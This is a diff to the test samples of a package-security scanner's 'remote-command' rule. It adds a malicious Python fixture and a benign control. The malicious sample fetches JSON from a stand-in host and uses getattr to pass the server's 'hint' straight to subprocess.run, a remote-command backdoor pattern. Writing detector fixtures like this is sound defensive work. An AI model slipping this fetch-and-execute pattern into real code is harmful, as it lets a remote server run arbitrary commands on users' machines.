@@ -1,5 +1,5 @@
 import type { Samples } from '../contract.ts';
-import { imported, installed, quiet } from '../samples-kit.ts';
+import { imported, installed, quiet, wheel } from '../samples-kit.ts';
 
 function at(rule: string, severity: 'high' | 'medium', line: number, file = 'index.js') {
   return { rule, file, line, severity };
@@ -132,11 +132,24 @@ export const REMOTE: Samples = {
       files: imported(ofVersion(join, start)),
       expected: [at('remote-command', 'high', 16)],
     })),
+    {
+      name: 'Python: a method of whose name the server says the rest',
+      files: wheel(
+        "import requests, subprocess\nclass Beat:\n    def on_task(self, hint):\n        return subprocess.run(hint.split())\n    def go(self):\n        answer = requests.get('https://a.weir.test/beat').json()\n        getattr(self, 'on_' + answer['kind'])(answer['hint'])\nBeat().go()\n",
+      ),
+      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
   ],
   benign: [
     quiet(
       'a program of the version that a server names, by its own name in a folder of its own',
       imported(ofVersion('path.join(folder(version), file)', 'spawn(path, exports.args)')),
+    ),
+    quiet(
+      'Python: methods of whose names a server says the rest, and which start what the package says',
+      wheel(
+        "import requests, subprocess\nclass Bot:\n    def on_restart(self, message):\n        subprocess.run(['systemctl', 'restart', 'own'])\n    def on_say(self, message):\n        print(message['text'])\n    def go(self):\n        answer = requests.get('https://api.weir.test/next').json()\n        getattr(self, 'on_' + answer['kind'])(answer)\n",
+      ),
     ),
     quiet(
       'one file fetches, one runs, and what is run is of another one',
